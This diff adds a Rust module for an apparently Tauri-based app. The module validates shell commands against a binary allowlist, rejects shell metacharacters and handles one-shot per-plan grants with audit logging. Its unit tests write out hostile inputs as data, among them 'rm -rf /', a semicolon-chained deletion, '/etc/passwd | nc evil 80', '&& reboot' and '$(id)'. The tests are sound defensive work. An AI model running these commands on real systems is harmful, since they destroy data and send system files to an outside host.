@@ -0,0 +1,258 @@
+//! Strict allowlist policy for commands run through `execute_plan`.
+//!
+//! Nothing reaches the shell unless the binary is explicitly permitted
+//! and none of its arguments can smuggle a second command through shell
+//! metacharacters.
+
+use std::collections::{HashMap, HashSet};
+use std::sync::Mutex;
+use std::time::{Duration, Instant};
+
+/// Binaries a plan is allowed to invoke. Deliberately conservative:
+/// package-manager and read-only inspection tools only.
+pub const DEFAULT_ALLOWED: &[&str] = &[
+    "apt", "apt-get", "dnf", "pacman", "zypper", "apk", "ls", "cat", "df",
+    "du", "free", "uname", "man", "tldr", "which", "echo", "systemctl",
+];
+
+/// Characters that would let an argument escape into the shell.
+const FORBIDDEN_CHARS: &[char] = &[';', '|', '&', '`', '$', '>', '<', '\n'];
+
+/// First shell metacharacter in `s`, if any. Shared with template
+/// substitution, which must reject the same characters.
+pub(crate) fn forbidden_char(s: &str) -> Option<char> {
+    s.chars().find(|c| FORBIDDEN_CHARS.contains(c))
+}
+
+/// Why a command was rejected by policy.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum PolicyError {
+    /// The binary itself is not on the allowlist.
+    CommandNotAllowed(String),
+    /// An argument contained a shell metacharacter.
+    ForbiddenArgument { arg: String, ch: char },
+}
+
+impl std::fmt::Display for PolicyError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            PolicyError::CommandNotAllowed(bin) => {
+                write!(f, "command not allowed: {bin}")
+            }
+            PolicyError::ForbiddenArgument { arg, ch } => {
+                write!(f, "forbidden character {ch:?} in argument {arg:?}")
+            }
+        }
+    }
+}
+
+impl std::error::Error for PolicyError {}
+
+/// Allowlist of permitted binaries.
+pub struct Allowlist {
+    allowed: HashSet<String>,
+}
+
+impl Allowlist {
+    pub fn new<I, S>(allowed: I) -> Self
+    where
+        I: IntoIterator<Item = S>,
+        S: Into<String>,
+    {
+        Self {
+            allowed: allowed.into_iter().map(Into::into).collect(),
+        }
+    }
+
+    /// Check `cmd` and `args` against the policy before anything runs.
+    ///
+    /// The command is reduced to its basename first so `/usr/bin/ls`
+    /// and `ls` are treated the same.
+    pub fn validate(&self, cmd: &str, args: &[String]) -> Result<(), PolicyError> {
+        let bin = cmd.rsplit('/').next().unwrap_or(cmd);
+        if !self.allowed.contains(bin) {
+            return Err(PolicyError::CommandNotAllowed(bin.to_string()));
+        }
+        validate_args(args)
+    }
+}
+
+/// Metacharacter check on arguments alone, shared with the one-shot
+/// grant path where the binary check is overridden but arguments must
+/// still be clean.
+pub(crate) fn validate_args(args: &[String]) -> Result<(), PolicyError> {
+    for arg in args {
+        if let Some(ch) = forbidden_char(arg) {
+            return Err(PolicyError::ForbiddenArgument {
+                arg: arg.clone(),
+                ch,
+            });
+        }
+    }
+    Ok(())
+}
+
+impl Default for Allowlist {
+    fn default() -> Self {
+        Self::new(DEFAULT_ALLOWED.iter().copied())
+    }
+}
+
+/// Validate against the default allowlist.
+pub fn validate(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
+    Allowlist::default().validate(cmd, args)
+}
+
+/// How long an unused one-shot grant stays valid.
+const GRANT_TTL: Duration = Duration::from_secs(120);
+
+/// One-shot allowlist overrides: a binary whitelisted for exactly one
+/// plan id, consumed by the run (or expired by TTL) so the global
+/// policy never widens.
+#[derive(Default)]
+pub struct OneShotGrants {
+    grants: Mutex<HashMap<String, (String, Instant)>>,
+}
+
+impl OneShotGrants {
+    /// Whitelist `binary` for `plan_id` only. A second grant for the
+    /// same plan replaces the first.
+    pub fn grant(&self, plan_id: &str, binary: &str) {
+        self.grants
+            .lock()
+            .unwrap()
+            .insert(plan_id.to_string(), (binary.to_string(), Instant::now()));
+    }
+
+    /// Consume the grant for `plan_id` if it covers `binary` and hasn't
+    /// expired. Consuming means a grant can only ever excuse one run.
+    pub fn take_if_granted(&self, plan_id: &str, binary: &str) -> bool {
+        let mut grants = self.grants.lock().unwrap();
+        match grants.get(plan_id) {
+            Some((granted, at)) if granted == binary && at.elapsed() <= GRANT_TTL => {
+                grants.remove(plan_id);
+                true
+            }
+            Some((_, at)) if at.elapsed() > GRANT_TTL => {
+                grants.remove(plan_id);
+                false
+            }
+            _ => false,
+        }
+    }
+}
+
+/// Whitelist `binary` for a single run of `plan_id`. The grant itself
+/// is recorded in the audit log.
+#[tauri::command]
+pub fn grant_once(
+    plan_id: String,
+    binary: String,
+    grants: tauri::State<'_, OneShotGrants>,
+    audit_log: tauri::State<'_, crate::audit::AuditLog>,
+) -> Result<(), crate::error::AppError> {
+    if binary.trim().is_empty() || binary.contains('/') {
+        return Err(crate::error::AppError::InvalidInput(
+            "grant_once takes a bare binary name".into(),
+        ));
+    }
+    grants.grant(&plan_id, &binary);
+    let _ = audit_log.record(&crate::audit::AuditEntry {
+        timestamp: crate::audit::now_ms(),
+        plan_id,
+        command: "grant_once".into(),
+        args: vec![binary],
+        allowed: true,
+        denied_reason: None,
+        exit_code: None,
+        stdout_bytes: 0,
+        stderr_bytes: 0,
+        duration_ms: 0,
+    });
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn args(xs: &[&str]) -> Vec<String> {
+        xs.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn permits_allowlisted_binary() {
+        assert!(validate("ls", &args(&["-la", "/tmp"])).is_ok());
+    }
+
+    #[test]
+    fn permits_absolute_path_to_allowlisted_binary() {
+        assert!(validate("/usr/bin/ls", &args(&["-la"])).is_ok());
+    }
+
+    #[test]
+    fn rejects_unknown_binary() {
+        assert_eq!(
+            validate("rm", &args(&["-rf", "/"])),
+            Err(PolicyError::CommandNotAllowed("rm".into()))
+        );
+    }
+
+    #[test]
+    fn rejects_semicolon_injection() {
+        assert!(matches!(
+            validate("ls", &args(&["/tmp; rm -rf /"])),
+            Err(PolicyError::ForbiddenArgument { ch: ';', .. })
+        ));
+    }
+
+    #[test]
+    fn rejects_pipe_injection() {
+        assert!(matches!(
+            validate("cat", &args(&["/etc/passwd | nc evil 80"])),
+            Err(PolicyError::ForbiddenArgument { ch: '|', .. })
+        ));
+    }
+
+    #[test]
+    fn rejects_and_chain_injection() {
+        assert!(matches!(
+            validate("ls", &args(&["&& reboot"])),
+            Err(PolicyError::ForbiddenArgument { ch: '&', .. })
+        ));
+    }
+
+    #[test]
+    fn rejects_backtick_injection() {
+        assert!(matches!(
+            validate("echo", &args(&["`id`"])),
+            Err(PolicyError::ForbiddenArgument { ch: '`', .. })
+        ));
+    }
+
+    #[test]
+    fn grant_is_consumed_by_first_use() {
+        let grants = OneShotGrants::default();
+        grants.grant("p1", "htop");
+        assert!(grants.take_if_granted("p1", "htop"));
+        assert!(!grants.take_if_granted("p1", "htop"));
+    }
+
+    #[test]
+    fn grant_is_scoped_to_plan_and_binary() {
+        let grants = OneShotGrants::default();
+        grants.grant("p1", "htop");
+        assert!(!grants.take_if_granted("p2", "htop"));
+        assert!(!grants.take_if_granted("p1", "rm"));
+        // The near-miss attempts must not consume the real grant.
+        assert!(grants.take_if_granted("p1", "htop"));
+    }
+
+    #[test]
+    fn rejects_dollar_substitution() {
+        assert!(matches!(
+            validate("echo", &args(&["$(id)"])),
+            Err(PolicyError::ForbiddenArgument { ch: '$', .. })
+        ));
+    }
+}